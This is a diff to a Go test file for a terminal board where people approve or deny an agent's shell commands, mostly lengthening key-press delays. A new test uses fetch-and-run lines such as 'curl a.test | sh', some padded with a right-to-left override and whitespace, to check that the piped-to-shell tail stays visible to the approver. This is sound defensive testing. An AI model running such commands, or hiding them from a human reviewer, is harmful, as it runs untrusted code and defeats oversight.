@@ -11,6 +11,7 @@ import (
 	tea "charm.land/bubbletea/v2"
 
 	"github.com/tada-run/tada-run/approval"
+	"github.com/tada-run/tada-run/approval/canonical"
 )
 
 // A standIn is a desk that remembers what it was told.
@@ -90,7 +91,7 @@ var (
 
 // E-chan-3, B-R5.2: which keys approve, and when.
 func TestBoardKeys(t *testing.T) {
-	slow, fast := time.Second, 10*time.Millisecond
+	slow, fast := 3*time.Second, 10*time.Millisecond
 	type step struct {
 		after time.Duration
 		key   tea.Key
@@ -132,7 +133,7 @@ func TestBoardKeys(t *testing.T) {
 func TestBoardAnswersEachCall(t *testing.T) {
 	p := newScene(questionOf(t, 1, "ls a", "rm b", "ls c"), 100, 60)
 	for _, k := range []tea.Key{enter, letter('2'), letter('y')} {
-		p.key(time.Second, k)
+		p.key(3*time.Second, k)
 	}
 	if d := p.desk.decided; len(d) != 1 || !d[0].Calls[0].Approved || d[0].Calls[1].Approved || !d[0].Calls[2].Approved {
 		t.Errorf("%+v", d)
@@ -142,7 +143,7 @@ func TestBoardAnswersEachCall(t *testing.T) {
 	}
 	p = newScene(questionOf(t, 1, "ls a", "rm b"), 100, 60)
 	for _, k := range []tea.Key{enter, letter('1'), letter('2'), letter('y')} {
-		p.key(time.Second, k)
+		p.key(3*time.Second, k)
 	}
 	if p.note != "denied e1" {
 		t.Errorf("a yes to no call is told as %q", p.note)
@@ -152,7 +153,7 @@ func TestBoardAnswersEachCall(t *testing.T) {
 		enter, letter('w'), letter('2'), letter('w'), letter('n'), letter('o'), enter,
 		letter('3'), letter('w'), letter('x'), enter, letter('3'), letter('3'), letter('y'),
 	} {
-		p.key(time.Second, k)
+		p.key(3*time.Second, k)
 	}
 	want := []approval.CallDecision{{ID: "c1", Approved: true}, {ID: "c2", Message: "no"}, {ID: "c3"}}
 	if d := p.desk.decided; len(d) != 1 || !slices.Equal(d[0].Calls, want) {
@@ -160,7 +161,7 @@ func TestBoardAnswersEachCall(t *testing.T) {
 	}
 	p = newScene(questionOf(t, 1, "ls a"), 100, 60)
 	for _, k := range []tea.Key{enter, letter('n'), letter('n'), letter('o'), enter} {
-		p.key(time.Second, k)
+		p.key(3*time.Second, k)
 	}
 	if d := p.desk.decided; len(d) != 1 || d[0].Calls[0].Approved || d[0].Calls[0].Message != "no" {
 		t.Errorf("%+v", d)
@@ -181,7 +182,7 @@ func TestBoardOffersAnother(t *testing.T) {
 	} {
 		p := newScene(questionOf(t, 1, c.commands...), 100, 60)
 		for _, k := range c.keys {
-			p.key(time.Second, k)
+			p.key(3*time.Second, k)
 		}
 		d := p.desk.decided
 		if c.instead == "" && len(d) != 0 || c.instead != "" && (len(d) != 1 || d[0].Calls[0].Approved || d[0].Calls[0].Instead != c.instead) {
@@ -194,12 +195,13 @@ func TestBoardOffersAnother(t *testing.T) {
 func TestBoardOffersGrants(t *testing.T) {
 	for command, offered := range map[string]bool{"ls a": true, "sudo ls": false, "python3 -c x": false} {
 		p := newScene(questionOf(t, 1, command), 100, 60)
-		p.key(time.Second, enter)
+		p.key(3*time.Second, enter)
+		p.at = p.at.Add(3 * time.Second)
 		if got := strings.Contains(p.help(), "g:"); got != offered {
 			t.Errorf("%q: %q", command, p.help())
 		}
 		for _, k := range []tea.Key{letter('g'), letter('y')} {
-			p.key(time.Second, k)
+			p.key(3*time.Second, k)
 		}
 		if (p.desk.granted == 1) != offered {
 			t.Errorf("%q: granted %d", command, p.desk.granted)
@@ -211,7 +213,7 @@ func TestBoardOffersGrants(t *testing.T) {
 	braked.Challenge = "KKKK"
 	for name, p := range map[string]*scene{"several people": newScene(several, 100, 60), "the brake is on": newScene(braked, 100, 60), "a call is denied": newScene(questionOf(t, 1, "ls a", "ls b"), 100, 60)} {
 		for _, k := range []tea.Key{enter, letter('2'), letter('g'), letter('y')} {
-			p.key(time.Second, k)
+			p.key(3*time.Second, k)
 		}
 		if p.desk.granted != 0 {
 			t.Errorf("%s: granted", name)
@@ -224,7 +226,7 @@ func TestBoardOffersGrants(t *testing.T) {
 func TestBoardCountsPeople(t *testing.T) {
 	typed := func(p *scene, text string) {
 		for _, r := range text {
-			p.key(time.Second, letter(r))
+			p.key(3*time.Second, letter(r))
 		}
 	}
 	for _, c := range []struct {
@@ -240,7 +242,7 @@ func TestBoardCountsPeople(t *testing.T) {
 			t.Fatal("nothing is asked for")
 		}
 		p := newScene(e, 100, 60)
-		p.key(time.Second, enter)
+		p.key(3*time.Second, enter)
 		typed(p, "y"+e.Challenge+c.code)
 		if c.told == "" {
 			if len(p.desk.decided) != 0 || p.mode != coding || strings.Contains(p.help(), "1") {
@@ -267,7 +269,7 @@ func TestBoardFits(t *testing.T) {
 			if n := len(p.rows()); n > size[1] {
 				t.Errorf("%v: %d rows", size, n)
 			}
-			p.key(time.Second, k)
+			p.key(3*time.Second, k)
 		}
 	}
 }
@@ -275,9 +277,9 @@ func TestBoardFits(t *testing.T) {
 // A question that is answered elsewhere while it is open closes itself and is not answered twice.
 func TestBoardAnsweredElsewhere(t *testing.T) {
 	p := newScene(questionOf(t, 1, "ls"), 80, 40)
-	p.key(time.Second, enter)
+	p.key(3*time.Second, enter)
 	p.Update(listed{nil})
-	p.key(time.Second, letter('y'))
+	p.key(3*time.Second, letter('y'))
 	if len(p.desk.decided) != 0 || p.mode != choosing {
 		t.Errorf("%+v in mode %d", p.desk.decided, p.mode)
 	}
@@ -289,7 +291,7 @@ func TestBoardCutsNothing(t *testing.T) {
 	if short := approval.Render(p.list[0].Payload, approval.RenderOptions{Width: 79}); !short.Truncated {
 		t.Fatal("the short page cuts nothing")
 	}
-	p.key(time.Second, enter)
+	p.key(3*time.Second, enter)
 	if p.page.Truncated || strings.Contains(p.page.Text(), "truncated") {
 		t.Error("the page that can be approved is cut")
 	}
@@ -299,12 +301,12 @@ func TestBoardCutsNothing(t *testing.T) {
 func TestBoardWaitsAfterAYes(t *testing.T) {
 	for name, then := range map[string]func(p *scene){
 		"nothing":             func(*scene) {},
-		"another key":         func(p *scene) { p.key(time.Second, letter('x')) },
+		"another key":         func(p *scene) { p.key(3*time.Second, letter('x')) },
 		"answered elsewhere":  func(p *scene) { p.Update(listed{nil}) },
-		"a no is being typed": func(p *scene) { p.key(time.Second, letter('n')) },
+		"a no is being typed": func(p *scene) { p.key(3*time.Second, letter('n')) },
 	} {
 		p := newScene(questionOf(t, 1, "ls"), 80, 40)
-		p.key(time.Second, enter)
+		p.key(3*time.Second, enter)
 		p.at = p.at.Add(time.Second)
 		p.Update(tea.KeyPressMsg(letter('y')))
 		yes := settled{p.keys}
@@ -343,11 +345,62 @@ func TestBoardCountsTheSeconds(t *testing.T) {
 		}
 	}
 	p.at = start
-	p.key(time.Second, enter)
+	p.key(3*time.Second, enter)
 	p.at = start.Add(time.Hour)
 	p.Update(ticked{})
-	p.key(time.Second, letter('y'))
+	p.key(3*time.Second, letter('y'))
 	if len(p.list) != 0 || p.mode != choosing || len(p.desk.decided) != 0 {
 		t.Errorf("a question that is too old stays: %d in mode %d, %+v", len(p.list), p.mode, p.desk.decided)
+	}
+}
+
+// On the narrowest screen and in every list, the end of a wrapped command and what a reason points at are there, and what is
+// cut is counted.
+func TestListsShowTheDangerousPart(t *testing.T) {
+	for name, command := range map[string]string{
+		"wrapped":   "curl -s https://a.test/" + strings.Repeat("x", 300) + " \\\n  | sh",
+		"many rows": strings.Repeat("echo hello\n", 200) + "curl a.test | sh",
+		"columns":   "echo " + strings.Repeat("a", 10_000) + " | sh",
+		"wide":      "echo " + strings.Repeat("世", 400) + " | sh",
+		"hidden":    "echo \u202e" + strings.Repeat("\t\r", 300) + " | sh",
+	} {
+		e := questionOf(t, 1, command)
+		canonicalPayload(t, &e)
+		for _, width := range []int{20, 40, 100, 300} {
+			b := &board{width: width, height: 500, known: true, list: []approval.Envelope{e}, now: func() time.Time { return start }, at: e.ID}
+			rows := b.listRows()
+			flat := ""
+			for _, row := range rows[2:] {
+				if n := len([]rune(row)); n > width {
+					t.Errorf("%s at %d: a row of %d", name, width, n)
+				}
+				flat += strings.TrimPrefix(row, "      ")
+			}
+			if !strings.Contains(flat, "| sh") || !strings.Contains(flat, " chars cut]") {
+				t.Errorf("%s at %d: %q", name, width, rows)
+			}
+		}
+		if line := short(e.Payload, 120); !strings.Contains(line, "| sh") || len(command) > 400 && !strings.Contains(line, " chars cut]") || strings.ContainsAny(line, "\n\r\t\x1b\u202e") {
+			t.Errorf("%s: %q", name, line)
+		}
+	}
+	several := questionOf(t, 1, "echo one", "curl a.test | sh")
+	canonicalPayload(t, &several)
+	if line := short(several.Payload, 120); !strings.Contains(line, "| sh") || !strings.Contains(line, "2 calls") {
+		t.Errorf("%q", line)
+	}
+}
+
+// canonicalPayload gives a question the one spelling that a store takes.
+func canonicalPayload(t *testing.T, e *approval.Envelope) {
+	t.Helper()
+	var tree map[string]any
+	if err := json.Unmarshal(e.Payload, &tree); err != nil {
+		t.Fatal(err)
+	}
+	tree["risk"] = int64(e.Risk)
+	var err error
+	if e.Payload, err = canonical.Append(nil, tree); err != nil {
+		t.Fatal(err)
 	}
 }
